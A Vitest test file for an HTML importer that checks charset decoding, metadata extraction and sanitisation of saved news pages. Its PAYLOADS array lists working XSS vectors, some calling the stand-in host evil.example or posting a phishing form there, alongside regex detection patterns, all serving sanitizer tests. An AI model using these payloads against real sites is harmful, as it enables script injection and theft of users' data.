import { readFileSync } from 'node:fs'
import { Socket } from 'node:net'
import { join, resolve } from 'node:path'
import { afterEach, describe, expect, it, vi } from 'vitest'
import { decodeHtmlBytes } from '../../../electron/main/services/importer/formats/decode-html'
import { normaliseDate, normaliseLanguage, stripSiteName } from '../../../electron/main/services/importer/formats/html-metadata'
import { htmlToBlocks, parseHtml, sanitizeArticleHtml } from '../../../electron/main/services/importer/formats/parse-html'
import type { ParsedDocument } from '../../../electron/main/services/importer/parsed-document'
import { ParleyError } from '../../../shared/ipc/errors'

const fixtures = resolve('test/fixtures/html')
const fixture = (name: string) => new Uint8Array(readFileSync(join(fixtures, name)))
const parseFixture = (name: string) => parseHtml(fixture(name), name)
const page = (html: string) => new TextEncoder().encode(html)
const allText = (doc: ParsedDocument) => doc.blocks.map((block) => block.text).join('\n')

/** Enough text for Readability to accept a page as an article. */
const filler = (n: number) =>
  Array.from({ length: n }, (_, i) => `<p>Paragraph ${i + 1}: the delegations met again in Geneva to discuss the constitutional basket, and the envoy said the session had been constructive although no text was agreed.</p>`).join('\n')

afterEach(() => {
  vi.restoreAllMocks()
})

describe('decodeHtmlBytes', () => {
  it('honours <meta charset="windows-1252">, including curly quotes in 0x80-0x9F, without a warning', () => {
    const decoded = decodeHtmlBytes(fixture('windows-1252.html'), 'windows-1252.html')
    expect(decoded.encoding).toBe('windows-1252')
    expect(decoded.warnings).toEqual([])
    expect(decoded.html).toContain('une “occasion manquée”')
    expect(decoded.html).toContain('janvier – sans')
  })

  it('reads iso-8859-1 and latin1 labels as Windows-1252, as browsers do', () => {
    for (const label of ['iso-8859-1', 'latin1', 'us-ascii']) {
      const bytes = new Uint8Array([...page(`<meta charset="${label}"><p>`), 0x93, 0x41, 0x94, 0x20, 0x63, 0x61, 0x66, 0xe9])
      expect(decodeHtmlBytes(bytes, 'a.html')).toMatchObject({ html: '<meta charset="' + label + '"><p>“A” café', encoding: 'windows-1252', warnings: [] })
    }
  })

  it('honours <meta http-equiv="Content-Type" content="...; charset=..."> for other charsets', () => {
    // "мир" in KOI8-R, "łódź" in ISO-8859-2
    const koi = new Uint8Array([...page('<meta http-equiv="Content-Type" content="text/html; charset=KOI8-R"><p>'), 0xcd, 0xc9, 0xd2])
    expect(decodeHtmlBytes(koi, 'k.html')).toMatchObject({ encoding: 'koi8-r', warnings: [] })
    expect(decodeHtmlBytes(koi, 'k.html').html.endsWith('<p>мир')).toBe(true)
    const latin2 = new Uint8Array([...page("<meta content='text/html;charset=iso-8859-2' http-equiv='content-type'>"), 0xb3, 0xf3, 0x64, 0xbc])
    expect(decodeHtmlBytes(latin2, 'l.html').html.endsWith('łódź')).toBe(true)
  })

  it('uses UTF-8 when nothing is declared, and falls back to Windows-1252 with a warning when that fails', () => {
    expect(decodeHtmlBytes(page('<p>Genève “ok”</p>'), 'u.html')).toEqual({ html: '<p>Genève “ok”</p>', warnings: [], encoding: 'utf-8' })
    const legacy = new Uint8Array([...page('<p>Gen'), 0xe8, ...page('ve</p>')])
    expect(decodeHtmlBytes(legacy, 'legacy.html')).toEqual({
      html: '<p>Genève</p>',
      warnings: ['legacy.html is not valid UTF-8; it was read as Windows-1252. Check accented characters.'],
      encoding: 'windows-1252',
    })
  })

  it('only looks for the declaration in the first 2 KB', () => {
    const late = new Uint8Array([...page(`<p>${'x'.repeat(2100)}</p><meta charset="koi8-r"><p>`), 0xcd, 0xc9, 0xd2])
    const decoded = decodeHtmlBytes(late, 'late.html')
    expect(decoded.encoding).toBe('windows-1252')
    expect(decoded.warnings).toHaveLength(1)
  })

  it('warns about an unknown charset label and reads UTF-8', () => {
    expect(decodeHtmlBytes(page('<meta charset="x-made-up-9"><p>Genève</p>'), 'odd.html')).toEqual({
      html: '<meta charset="x-made-up-9"><p>Genève</p>',
      warnings: ['odd.html declares the unknown character set "x-made-up-9"; it was read as UTF-8.'],
      encoding: 'utf-8',
    })
  })

  it('lets a byte-order mark win over everything else', () => {
    const utf16 = decodeHtmlBytes(fixture('utf16.html'), 'utf16.html')
    expect(utf16.encoding).toBe('utf-16le')
    expect(utf16.html.startsWith('<!DOCTYPE html>')).toBe(true)
    expect(utf16.html).toContain('(بيان مشترك)')
    const be = new Uint8Array([0xfe, 0xff, 0x00, 0x3c, 0x00, 0x70, 0x00, 0x3e, 0x00, 0xe9])
    expect(decodeHtmlBytes(be, 'be.html')).toEqual({ html: '<p>é', warnings: [], encoding: 'utf-16be' })
    const utf8Bom = new Uint8Array([0xef, 0xbb, 0xbf, ...page('<meta charset="windows-1252"><p>é')])
    expect(decodeHtmlBytes(utf8Bom, 'bom.html')).toMatchObject({ html: '<meta charset="windows-1252"><p>é', encoding: 'utf-8' })
  })

  it('refuses binary data with a specific message', () => {
    const binary = new Uint8Array(readFileSync(resolve('test/fixtures/text/binary-posing-as-text.txt')))
    expect(() => decodeHtmlBytes(binary, 'photo.html')).toThrow(new ParleyError('import-failed', 'photo.html looks like binary data, not HTML.'))
    try {
      decodeHtmlBytes(binary, 'photo.html')
    } catch (error) {
      expect((error as ParleyError).code).toBe('import-failed')
    }
  })
})

describe('HTML metadata helpers', () => {
  it('normalises dates to YYYY-MM-DD or a full ISO timestamp', () => {
    expect(normaliseDate('2017-11-28T18:40:00+01:00')).toBe('2017-11-28T18:40:00+01:00')
    expect(normaliseDate('2017-11-28T18:40:00.000Z')).toBe('2017-11-28T18:40:00.000Z')
    expect(normaliseDate('2017-11-28T18:40:00+0100')).toBe('2017-11-28T18:40:00+01:00')
    expect(normaliseDate('2017-11-28 18:40')).toBe('2017-11-28T18:40')
    expect(normaliseDate('2017-11-28')).toBe('2017-11-28')
    expect(normaliseDate('2017/11/28')).toBe('2017-11-28')
    expect(normaliseDate('20171128')).toBe('2017-11-28')
    expect(normaliseDate('28 November 2017')).toBe('2017-11-28')
    expect(normaliseDate('Tue, 28 Nov 2017 17:40:00 GMT')).toBe('2017-11-28')
    expect(normaliseDate('December 1st, 2017')).toBe('2017-12-01')
    expect(normaliseDate('2017-02-30')).toBeNull()
    expect(normaliseDate('last Tuesday')).toBeNull()
    expect(normaliseDate('28/11/2017')).toBeNull()
  })

  it('normalises languages to BCP 47', () => {
    expect(normaliseLanguage('en_GB')).toBe('en-GB')
    expect(normaliseLanguage('EN-gb')).toBe('en-GB')
    expect(normaliseLanguage('fr, en')).toBe('fr')
    expect(normaliseLanguage('not a language!')).toBeNull()
  })

  it('strips the site name from a title only when the affix is the site name', () => {
    expect(stripSiteName('Geneva talks resume | The Levant Ledger', 'The Levant Ledger')).toBe('Geneva talks resume')
    expect(stripSiteName('Geneva talks resume - the levant ledger', 'The Levant Ledger')).toBe('Geneva talks resume')
    expect(stripSiteName('The Levant Ledger | Geneva talks resume', 'The Levant Ledger')).toBe('Geneva talks resume')
    expect(stripSiteName('Geneva - Day two', 'The Levant Ledger')).toBe('Geneva - Day two')
    expect(stripSiteName('Geneva | The Levant Ledger', null)).toBe('Geneva | The Levant Ledger')
  })
})

describe('parseHtml: a saved news page', () => {
  it('reads metadata from Open Graph and meta tags', async () => {
    const doc = await parseFixture('news-article.html')
    expect(doc).toMatchObject({
      title: 'Geneva round opens with the government seats empty',
      outlet: 'The Levant Ledger',
      byline: 'Karim Haddad',
      publishedAt: '2017-11-28T18:40:00+01:00',
      language: 'en',
      warnings: [],
    })
  })

  it('keeps the article blocks in order with their kinds, dropping the headline that repeats the title', async () => {
    const doc = await parseFixture('news-article.html')
    expect(doc.blocks.map((block) => block.kind)).toEqual([
      'paragraph', 'paragraph', 'paragraph',
      'heading',
      'paragraph', 'paragraph',
      'quote',
      'paragraph',
      'list-item', 'list-item', 'list-item', 'list-item',
      'paragraph', 'paragraph',
    ])
    expect(doc.blocks.every((block) => block.page === null)).toBe(true)
    expect(doc.blocks[0]!.text.startsWith('The eighth round of United Nations-led talks on Syria opened in Geneva on Tuesday')).toBe(true)
    expect(doc.blocks[3]!.text).toBe('A single opposition team, for once')
    expect(doc.blocks[6]!.text.startsWith('"The question is no longer whether the opposition can speak with one voice.')).toBe(true)
    expect(doc.blocks[8]!.text).toBe('governance and a credible, inclusive transitional arrangement;')
    expect(doc.blocks[11]!.text).toBe('counter-terrorism, security governance and confidence-building measures.')
    expect(doc.blocks[13]!.text.endsWith('would continue on Wednesday whatever the government delegation decided.')).toBe(true)
    // Source line breaks and indentation are collapsed.
    expect(doc.blocks.some((block) => /\s{2}|\n/.test(block.text))).toBe(false)
    expect(doc.blocks.some((block) => block.text.toLowerCase() === doc.title!.toLowerCase())).toBe(false)
    expect(doc.blocks.some((block) => /^By Karim Haddad/.test(block.text))).toBe(false)
  })

  it('leaves navigation, cookie banner, adverts, share buttons, related stories, comments, footer and scripts behind', async () => {
    const text = allText(await parseFixture('news-article.html'))
    const boilerplate = [
      'We use cookies', 'Accept all cookies', 'Manage preferences', // cookie banner
      'Independent reporting from the eastern Mediterranean', 'Search the Ledger', // header
      'Middle East', 'Business and markets', 'Subscribe from 1 euro', // nav
      'Advertisement', 'Sunward Holidays', // advert
      'Share on Twitter', 'Share on Facebook', 'Email this story', 'Share this article', 'WhatsApp', // share buttons
      'Related stories', 'Opposition factions agree joint team', 'What the de-escalation zones', // related aside
      'Comments (2)', 'AleppoWatcher77', 'Wake me up', 'traffic around the Palais', 'Write your comment', 'Post comment', // comments
      'All rights reserved', 'Privacy policy', 'Contact the newsroom', // footer
      'dataLayer', 'gtag', 'trackers.example', 'levantledger.example', 'font-family', // scripts, styles, URLs
    ]
    for (const phrase of boilerplate) expect(text, phrase).not.toContain(phrase)
  })

  it('reads metadata from a JSON-LD @graph with @id references, surviving broken JSON-LD', async () => {
    const doc = await parseFixture('jsonld-only.html')
    expect(doc).toMatchObject({
      title: 'Sochi congress on Syria put back amid dispute over invitations',
      outlet: 'Meridian Daily',
      byline: 'Hanna Lindqvist and Omar Farouk',
      publishedAt: '2017-11-17T07:15:00Z',
      language: 'en-GB',
    })
    expect(doc.blocks.map((block) => block.kind)).toEqual(['paragraph', 'paragraph', 'paragraph', 'paragraph'])
    expect(doc.blocks[0]!.text.startsWith('A gathering of Syrian political groups')).toBe(true)
  })

  it('falls back to <title> without the site suffix, og:locale and <time> in the article', async () => {
    const doc = await parseHtml(
      page(`<html><head><title>Talks resume in Geneva | Orontes Review</title><meta name="application-name" content="Orontes Review">
        <meta property="og:locale" content="en_GB"><meta property="article:author" content="https://orontes.example/staff/1"></head>
        <body><article><h1>Talks resume in Geneva</h1><p>By <a rel="author" href="/staff/1">Sami Khoury</a></p>
        <time datetime="2017-12-10">10 December</time>${filler(4)}</article></body></html>`),
      'fallbacks.html',
    )
    expect(doc).toMatchObject({ title: 'Talks resume in Geneva', outlet: 'Orontes Review', byline: 'Sami Khoury', publishedAt: '2017-12-10', language: 'en-GB' })
  })

  it('drops a "By ..." line that repeats the byline near the top', async () => {
    const doc = await parseHtml(
      page(`<html lang="en"><head><meta name="author" content="Jane Roe"><title>Untitled</title></head><body><div class="content">
        <p>By Jane Roe</p>${filler(4)}<p>By the end of the week the talks had stalled.</p></div></body></html>`),
      'byline.html',
    )
    expect(doc.byline).toBe('Jane Roe')
    expect(doc.blocks[0]!.text.startsWith('Paragraph 1:')).toBe(true)
    expect(doc.blocks.at(-1)!.text).toBe('By the end of the week the talks had stalled.')
  })

  it('falls back to the page body minus its furniture when Readability finds no article, with a warning, and drops the headline repeating the title', async () => {
    const doc = await parseHtml(
      page(`<html><head><title>Talks to resume Monday</title></head><body>
        <nav>Home World Opinion</nav><header>The Daily Flash</header><h1>Talks  to resume MONDAY</h1>
        <div class="cookie">Cookies are used here.</div><div class="ad">Buy gold now</div><div aria-hidden="true">Hidden promo</div>
        <div class="share">Share this</div><aside>Most read</aside>
        <div><p>Flash: the envoy announced that talks will resume on Monday.</p></div>
        <form><p>Subscribe to our newsletter</p></form><noscript>Enable JS</noscript><footer>Copyright notice</footer>
        <script>alert('x')</script></body></html>`),
      'flash.html',
    )
    expect(doc.title).toBe('Talks to resume Monday')
    expect(doc.blocks).toEqual([{ kind: 'paragraph', text: 'Flash: the envoy announced that talks will resume on Monday.', page: null }])
    expect(doc.warnings).toEqual(['flash.html: the article could not be told apart from the rest of the page; check the text for menus or adverts.'])
  })

  it('reads pages that a browser would repair: no <html>/<body> tags, or content after </html>', async () => {
    const body = filler(3)
    const fragment = await parseHtml(page(`<title>Talks | S</title><meta property="og:site_name" content="S">${body}`), 'fragment.html')
    expect(fragment.title).toBe('Talks')
    expect(fragment.blocks.map((block) => block.text.slice(0, 12))).toEqual(['Paragraph 1:', 'Paragraph 2:', 'Paragraph 3:'])
    const noBody = await parseHtml(page(`<html lang="de"><head><title>Titel</title></head>${body}</html>`), 'no-body.html')
    expect(noBody).toMatchObject({ title: 'Titel', language: 'de' })
    expect(noBody.blocks).toHaveLength(3)
    const trailing = await parseHtml(page(`<html><head><title>T</title></head><body>${body}</body></html><p>Correction appended after the end tag.</p>`), 'trailing.html')
    expect(trailing.blocks.map((block) => block.text)).toContain('Correction appended after the end tag.')
    const plain = await parseHtml(page('Plain words saved with an .html name, about the talks in Geneva.'), 'plain.html')
    expect(plain.blocks).toEqual([{ kind: 'paragraph', text: 'Plain words saved with an .html name, about the talks in Geneva.', page: null }])
  })

  it('refuses a page with no article text with its exact error', async () => {
    await expect(parseFixture('empty-page.html')).rejects.toThrow(new ParleyError('import-failed', 'empty-page.html: no article text was found in this page.'))
    await expect(parseFixture('empty-page.html')).rejects.toMatchObject({ code: 'import-failed' })
  })

  it('refuses binary data', async () => {
    await expect(parseHtml(fixture('utf16.html').subarray(2, 200).map((b, i) => (i % 3 === 0 ? 0 : b)), 'junk.html')).rejects.toThrow(
      'junk.html looks like binary data, not HTML.',
    )
  })
})

describe('parseHtml: pathological nesting', () => {
  const sentence = 'The envoy said the talks in Geneva would resume next week. '
  const elapsed = async (html: string, name: string) => {
    const start = performance.now()
    const doc = await parseHtml(page(html), name)
    return { doc, ms: performance.now() - start }
  }

  it('parses 50 000 nested elements quickly (linkedom alone would take many seconds)', async () => {
    const depth = 50_000
    const { doc, ms } = await elapsed(`<html><head><title>Deep</title></head><body>${'<div>'.repeat(depth)}<p>${sentence.repeat(5)}</p>${'</div>'.repeat(depth)}</body></html>`, 'deep.html')
    expect(doc.title).toBe('Deep')
    expect(allText(doc)).toBe(sentence.repeat(5).trim())
    expect(ms).toBeLessThan(3000)
  })

  it('reads a page too deep for Readability (about 8 s there) with the linear fallback, and says so', async () => {
    const unit = `${'<div>'.repeat(300)}<p>${sentence.repeat(4)}</p>${'</div>'.repeat(300)}`
    const { doc, ms } = await elapsed(`<html><body><article>${unit.repeat(30)}</article></body></html>`, 'nested.html')
    expect(doc.blocks).toHaveLength(30)
    expect(doc.warnings).toEqual(['nested.html: the page is nested too deeply to pick out the article; the whole page text was kept, check it for menus or adverts.'])
    expect(ms).toBeLessThan(3000)
  })

  it('reads a page with much text deep down (Readability took 16-20 s on its fuzzed shape) with the fallback too', async () => {
    // Few elements, so the element budget passes; 60 000 characters 400 deep trips the text budget.
    const page = `<html><body>${'<div>'.repeat(400)}<p>${sentence.repeat(600)}</p>${'</div>'.repeat(400)}</body></html>`
    const { doc } = await elapsed(page, 'deep-text.html')
    expect(doc.warnings).toContain('deep-text.html: the page is nested too deeply to pick out the article; the whole page text was kept, check it for menus or adverts.')
    expect(allText(doc)).toContain(sentence.trim())
  })

  it('does not lose structure on sloppy but shallow markup (many unclosed <p> and <li>)', async () => {
    const { doc } = await elapsed(`<html><body><article>${Array.from({ length: 600 }, (_, i) => `<p>${i} ${sentence}`).join('\n')}<ul>${'<li>item'.repeat(500)}</ul></article></body></html>`, 'sloppy.html')
    expect(doc.blocks.filter((block) => block.kind === 'paragraph')).toHaveLength(600)
    expect(doc.blocks.filter((block) => block.kind === 'list-item')).toHaveLength(500)
  })
})

describe('parseHtml: character sets', () => {
  it('reads a Windows-1252 page with curly quotes and accents intact', async () => {
    const doc = await parseFixture('windows-1252.html')
    expect(doc.title).toBe('Genève : l’émissaire appelle à négocier « sans préconditions »')
    expect(doc.language).toBe('fr')
    expect(doc.publishedAt).toBe('2017-12-14')
    expect(doc.warnings).toEqual([])
    expect(doc.blocks[0]!.text).toContain('en regrettant une “occasion manquée”, la délégation')
    expect(allText(doc)).not.toMatch(/[\u0080-\u009F\uFFFD]/)
  })

  it('reads a UTF-16 LE page with a byte-order mark', async () => {
    const doc = await parseFixture('utf16.html')
    expect(doc.title).toBe('Joint statement on de-escalation zones')
    expect(doc.outlet).toBe('Orontes Review')
    expect(doc.blocks).toHaveLength(3)
    expect(doc.blocks[1]!.text).toContain('English, Russian and Arabic (بيان مشترك), also welcomed the resumption of talks in Geneva — the first')
  })
})

/**
 * Each payload is in test/fixtures/html/hostile.html with the marker shown; none of the markers may
 * reach the reading text. The legitimate paragraphs (LEGIT-n) around them must.
 */
const HOSTILE_MARKERS = [
  'XSS-HEAD-SCRIPT', 'head-fetch', 'XSS-BODY-ONLOAD', // script in head, body onload
  'XSS-SCRIPT-BODY', 'document.cookie', // <script>
  'XSS-IMG-ONERROR', // <img onerror>
  'XSS-SVG-ONLOAD', 'XSS-SVG-TEXT', 'XSS-SVG-SCRIPT', // <svg onload>
  'XSS-IFRAME-FALLBACK', 'XSS-IFRAME-SRCDOC', 'iframe-src', // <iframe src / srcdoc>
  'XSS-OBJECT-FALLBACK', 'object.swf', 'object-param', 'embed.swf', // <object>, <embed>
  'XSS-FORM-LABEL', 'XSS-INPUT-VALUE', 'XSS-ONFOCUS', 'input-image', 'XSS-TEXTAREA', 'XSS-OPTION', 'XSS-FORMACTION', 'XSS-BUTTON-TEXT', 'phish', // <form>
  'XSS-JS-HREF', 'PHNjcmlwdD5', 'XSS-MIXED-CASE', 'XSS-ENTITY-TAB', 'XSS-VBSCRIPT', 'XSS-COLON-ENTITY', // hostile link schemes
  'head-refresh', 'body-refresh', 'head-base', 'body-base', 'head-link.css', 'body-link.css', // meta refresh, base, link
  'style-import', 'style-bg', '@import', // <style>
  'inline-style', 'inline.htc', 'background-image', // inline style url()
  'XSS-MATH-XLINK', 'XSS-MATH-TEXT', // <math xlink:href>
  'XSS-TEMPLATE-CONTENT', 'XSS-TEMPLATE-SCRIPT', // <template>
  'XSS-NOSCRIPT-CONTENT', 'noscript-pixel', // <noscript>
  'XSS-ONCLICK', 'XSS-P-ONMOUSEOVER', 'XSS-DIV-ONMOUSEOVER', 'XSS-DIV-ONFOCUS', // event handlers
  'XSS-SOURCE-ONERROR', 'XSS-VIDEO-FALLBACK', 'XSS-AUDIO-FALLBACK', 'video.mp4', 'poster.png', // <video>, <audio>, <source onerror>
  'picture.webp', 'srcset-1x', 'srcset-2x', 'XSS-IMG-ALT', 'pixel.gif', // srcset, picture, tracking pixel
  'div-background', 'table-background', 'td-background', // background attribute
  'XSS-CONDITIONAL-COMMENT', 'XSS-CONDITIONAL-TEXT', 'ie.css', // conditional comments
  'XSS-CDATA', // CDATA
  'XSS-ONTOGGLE', // details ontoggle
  'evil.example', 'alert(', 'javascript', 'payload', // anything else from the payloads
]

describe('parseHtml: hostile content', () => {
  it('keeps every attack payload out of the reading text', async () => {
    const text = allText(await parseFixture('hostile.html'))
    for (const marker of HOSTILE_MARKERS) expect(text, marker).not.toContain(marker)
  })

  it('keeps every legitimate paragraph, including link text whose target was dropped', async () => {
    const doc = await parseFixture('hostile.html')
    expect(doc).toMatchObject({ title: 'Government delegation leaves Geneva as round stalls', outlet: 'Cedar Wire', byline: 'Rania Aziz', publishedAt: '2017-12-01', language: 'en' })
    const text = allText(doc)
    for (let n = 1; n <= 11; n++) expect(text, `LEGIT-${n}`).toContain(`LEGIT-${n} `)
    expect(text).toContain('listed the sessions held so far (first annex, second annex, third annex, fourth annex, fifth annex, sixth annex) and said the full record would be published later.')
    expect(text).toContain('LEGIT-6 The envoy said he still intended to reconvene the talks')
    expect(text).toContain('LEGIT-9 Round | Geneva VIII')
    expect(doc.blocks.map((block) => block.text)).toContain('LEGIT-10 Background')
    expect(doc.blocks.map((block) => block.text)).toContain('The round is the eighth since the process began in 2016.')
  })
})

/** One payload per entry; the sanitizer's output must contain none of the dangerous patterns. */
const PAYLOADS = [
  `<script>alert('xss')</script>`,
  `<SCRIPT SRC=http://evil.example/xss.js></SCRIPT>`,
  `<img src=x onerror="alert('xss')">`,
  `<img srcset="https://evil.example/a.png 1x, https://evil.example/b.png 2x">`,
  `<svg onload="alert('xss')"><circle r="1"/></svg>`,
  `<svg><script>alert('xss')</script></svg>`,
  `<iframe src="https://evil.example/frame"></iframe>`,
  `<iframe srcdoc="<script>alert('xss')</script>"></iframe>`,
  `<object data="https://evil.example/x.swf"><param name="movie" value="x.swf"></object>`,
  `<embed src="https://evil.example/x.swf">`,
  `<form action="https://evil.example/phish"><input type="password" name="pw"><button formaction="javascript:alert(1)">Go</button></form>`,
  `<a href="javascript:alert('xss')">click</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>`,
  `<a href=" JaVaScRiPt:alert('xss')">click</a>`,
  `<a href="jav&#x09;ascript:alert('xss')">click</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>`,
  `<a href="javascript&colon;alert(1)">click</a>`,
  `<a href="vbscript:msgbox('xss')">click</a>`,
  `<a href="//evil.example/protocol-relative">click</a>`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
  `<link rel="stylesheet" href="http://evil.example/x.css">`,
  `<style>@import url("https://evil.example/x.css");</style>`,
  `<p style="background:url('https://evil.example/bg.png')">text</p>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert('xss')">click</maction></math>`,
  `<template><script>alert('xss')</script><p>hidden</p></template>`,
  `<noscript><img src="https://evil.example/p.gif"></noscript>`,
  `<p onclick="alert('xss')" onmouseover="alert('xss')">text</p>`,
  `<div onmouseover="alert('xss')">text</div>`,
  `<video><source onerror="alert('xss')"></video>`,
  `<audio src="https://evil.example/a.mp3" autoplay></audio>`,
  `<div background="https://evil.example/bg.png">text</div>`,
  `<!--[if IE]><script>alert('xss')</script><![endif]-->`,
  `<![CDATA[<script>alert('xss')</script>]]>`,
  `<details open ontoggle="alert('xss')"><summary>s</summary>t</details>`,
  `<body onload="alert('xss')"><p>text</p></body>`,
  `<table background="https://evil.example/t.png"><tr><td background="https://evil.example/c.png">cell</td></tr></table>`,
  `<a href="https://ok.example/" onclick="alert('xss')" style="color:red" target="_blank">ok</a>`,
  `<scr<script>ipt>alert('xss')</scr</script>ipt>`,
  `<img """><script>alert('xss')</script>">`,
]

const FORBIDDEN = [/<script/i, /on\w+\s*=/i, /javascript:/i, /data:/i, /vbscript:/i, /<iframe/i, /<object/i, /<embed/i, /<form/i, /<input/i, /<meta/i, /<base/i, /<link/i, /<style/i, /<svg/i, /<math/i, /<img/i, /<video/i, /<audio/i, /<source/i, /<template/i, /style=/i, /background=/i, /evil\.example/i]

describe('sanitizeArticleHtml', () => {
  it.each(PAYLOADS)('neutralises %s', (payload) => {
    const output = sanitizeArticleHtml(`<p>before</p>${payload}<p>after</p>`)
    for (const pattern of FORBIDDEN) expect(output, String(pattern)).not.toMatch(pattern)
    // The surrounding text survives, so a sanitizer that returned nothing could not pass.
    expect(output.startsWith('<p>before</p>')).toBe(true)
    expect(output.endsWith('<p>after</p>')).toBe(true)
  })

  it('neutralises the whole hostile page at once', () => {
    const output = sanitizeArticleHtml(decodeHtmlBytes(fixture('hostile.html'), 'hostile.html').html)
    for (const pattern of FORBIDDEN) expect(output, String(pattern)).not.toMatch(pattern)
    expect(output).toContain('LEGIT-11 The opposition delegation said')
  })

  it('keeps the allowed structure and safe links', () => {
    expect(sanitizeArticleHtml('<h2 class="x" id="y">Head</h2><p>A <a href="https://un.example/doc" title="t">link</a>, <a href="mailto:press@un.example">mail</a> and <em>stress</em></p>')).toBe(
      '<h2>Head</h2><p>A <a href="https://un.example/doc">link</a>, <a href="mailto:press@un.example">mail</a> and <em>stress</em></p>',
    )
  })
})

describe('htmlToBlocks', () => {
  it('maps elements to block kinds', () => {
    const blocks = htmlToBlocks(`
      <h2>Heading</h2>
      <p>First line<br>second   line</p>
      <blockquote><p>Quoted one.</p><p>Quoted two.</p><footer>— A delegate</footer></blockquote>
      <blockquote>Loose quote text</blockquote>
      <ul><li>Item one<ul><li>Nested item</li></ul></li><li>Item two</li></ul>
      <ol><li><p>Ordered item</p></li></ol>
      <pre>line 1
  line 2</pre>
      <table><caption>Delegations</caption><thead><tr><th>Side</th><th>Head</th></tr></thead><tbody><tr><td>Opposition</td><td>Nasr al-Hariri</td></tr><tr><td></td><td></td></tr></tbody></table>
      <figure><img src="x.png"><figcaption>Palais des Nations</figcaption></figure>
      <div>Loose text in a div<br><br>after a double break <strong>with bold</strong></div>
      <section>Section text<p>Para in section</p>tail text</section>
      <p>   </p><dl><dt>Term</dt><dd>Definition</dd></dl>
    `)
    expect(blocks.map(({ kind, text }) => [kind, text])).toEqual([
      ['heading', 'Heading'],
      ['paragraph', 'First line\nsecond line'],
      ['quote', 'Quoted one.'],
      ['quote', 'Quoted two.'],
      ['quote', '— A delegate'],
      ['quote', 'Loose quote text'],
      ['list-item', 'Item one'],
      ['list-item', 'Nested item'],
      ['list-item', 'Item two'],
      ['list-item', 'Ordered item'],
      ['paragraph', 'line 1\nline 2'],
      ['paragraph', 'Delegations'],
      ['paragraph', 'Side | Head'],
      ['paragraph', 'Opposition | Nasr al-Hariri'],
      ['paragraph', 'Palais des Nations'],
      ['paragraph', 'Loose text in a div'],
      ['paragraph', 'after a double break with bold'],
      ['paragraph', 'Section text'],
      ['paragraph', 'Para in section'],
      ['paragraph', 'tail text'],
      ['paragraph', 'Term'],
      ['paragraph', 'Definition'],
    ])
    expect(blocks.every((block) => block.page === null)).toBe(true)
  })
})

describe('parseHtml never touches the network', () => {
  it('makes no fetch and opens no socket while parsing any fixture', async () => {
    const fetchSpy = vi.spyOn(globalThis, 'fetch')
    const connectSpy = vi.spyOn(Socket.prototype, 'connect')
    for (const name of ['news-article.html', 'jsonld-only.html', 'hostile.html', 'windows-1252.html', 'utf16.html']) await parseFixture(name)
    await expect(parseFixture('empty-page.html')).rejects.toThrow(ParleyError)
    expect(fetchSpy).not.toHaveBeenCalled()
    expect(connectSpy).not.toHaveBeenCalled()
  })
})
